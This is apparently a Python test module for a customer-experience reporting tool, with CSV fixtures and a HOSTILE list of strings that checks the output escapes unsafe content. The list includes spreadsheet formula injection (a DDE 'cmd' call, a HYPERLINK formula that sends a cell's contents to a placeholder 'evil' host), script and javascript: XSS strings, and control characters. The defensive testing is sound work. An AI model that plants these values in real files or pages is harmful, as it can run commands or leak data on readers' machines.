"""What reports are made of in tests: a config and files with numbers that a hand can check, and hostile texts."""

import json
from datetime import UTC, datetime
from pathlib import Path

from msgspec.structs import replace

from cxcli.config.load import load
from cxcli.errors import Notice
from cxcli.report.assembling import reports
from cxcli.report.inputs import Inputs
from cxcli.report.runs import found_for, sources_of
from cxcli.settings import Asked
from cxcli.settings.report import report_plan

CONFIG = """\
sources:
  responses: {path: responses.csv, columns: {at: submitted_at}}
  tickets: {path: tickets.csv}
at_risk: {metrics: [nps], within: 90 d, at_least: 1}
journey:
  customer: customer_id
  metrics: [csat]
  stages:
    buy: {where: "channel == 'web'"}
    use: {where: "channel == 'mail'", touchpoints: {pro: "plan == 'pro'"}}
themes: {price: [price*], staff: [staff]}
report:
  title: "Title"
  metrics: [nps, csat, resolution_time]
  by: [plan]
  min_n: 2
  reported: 2025-03
  shown: 4
  sections: [attention, scorecard, trends, groups, journey, answers, themes, customers, rows, definitions]
targets: {resolution_time: {target: 12 h}, nps: {target: 10, groups: {"plan=pro": {target: 0}}}}
events: [{on: 2025-02-10, title: New prices}]
"""
RESPONSES = """\
id,submitted_at,channel,plan,nps,csat,customer_id,comment
0,2024-12-05,web,pro,10,5,A,
1,2025-01-05,web,pro,10,5,A,the price is fine
2,2025-01-06,web,pro,10,5,B,
3,2025-01-07,mail,free,9,4,C,nice staff
4,2025-02-05,mail,free,9,4,D,
5,2025-02-06,web,pro,8,3,A,
6,2025-02-07,web,free,6,2,B,price
7,2025-03-05,mail,pro,3,1,A,"the price, mail me at ann@example.org"
8,2025-03-06,web,pro,0,5,B,price and staff
9,2025-03-07,web,free,,5,C,
10,2025-03-08,mail,free,7,1,D,too high a price
11,2025-03-09,mail,pro,9,4,E,the price again
12,2025-03-10,web,pro,9,4,F,price
13,2025-03-11,web,pro,10,4,G,prices
"""
TICKETS = """\
ticket_id,customer_id,created_at,solved_at,status,plan
T1,A,2025-02-03T08:00:00Z,2025-02-03T18:00:00Z,closed,pro
T2,B,2025-02-04T08:00:00Z,2025-02-05T08:00:00Z,closed,pro
T3,A,2025-03-03T08:00:00Z,2025-03-03T18:20:00Z,closed,pro
T4,B,2025-03-04T08:00:00Z,2025-03-05T08:00:01Z,closed,pro
T5,C,2025-03-05T08:00:00Z,2025-03-05T15:00:00Z,closed,pro
T6,D,2025-03-06T08:00:00Z,2025-03-06T15:00:00Z,closed,free
"""
NOW = "2025-04-20"
SHARED = Path(__file__).resolve().parents[2].parent / "shared"


def report_of(path):
    """Return the report that a config describes, for its only readers."""
    clock = datetime(2025, 4, 20, tzinfo=UTC)
    loaded, asked = load(path), Asked(now=NOW, shared=True)
    plan = report_plan(asked, loaded, clock)
    (made,) = reports(plan, found_for(plan, asked, clock, Inputs(sources_of(plan)), lambda *_: None))
    return made


HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "{=1+1}",
    "Wow!A1",
    "=Summary!$A$1",
    "https://evil.example/",
    "internal:Summary!A1",
    "mailto:me@evil.example",
    "<r><t>rich</t></r>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](http://evil/p.png)",
    "| a | b |",
    "_x0041_",
    "\x1b[31mred",
    "\x00nothing",
    "a\ufffeb\uffff",
    "\u202eevil",
    " spaces ",
    "two\nlines",
    "1",
    "1e5",
    "TRUE",
    "2025-03-01",
    "&L&A",
]
"""Texts that a spreadsheet or a page might take for something else."""


LISTED = SHARED / "hostile/blns/blns.json"


def naughty_strings():
    """The strings of the published list that are not blank."""
    return [text for text in json.loads(LISTED.read_text(encoding="utf-8")) if text.strip()]


def filled_with(report, texts):
    """Return a report in which groups, comments, titles and notices are some texts."""
    nps, csat, _ = report.metrics
    (pro,) = (cell for cell in nps.groups if dict(cell.group)["plan"] == "pro")
    groups = tuple(
        replace(pro, group=(("plan", text),), score=replace(pro.score, group={"plan": text})) for text in texts
    )
    titled = [replace(csat, definition=replace(csat.definition, title=text), points=(), answers=()) for text in texts]
    charted = [replace(csat, definition=replace(csat.definition, title=text)) for text in texts[:12]]
    return replace(
        report,
        audience=replace(report.audience, title=texts[0]),
        metrics=(replace(nps, groups=groups), *titled, *charted),
        themes=replace(report.themes, quotes={"price": texts}),
        notices=tuple(Notice(code="a-notice", message=text, source=text) for text in texts),
    )
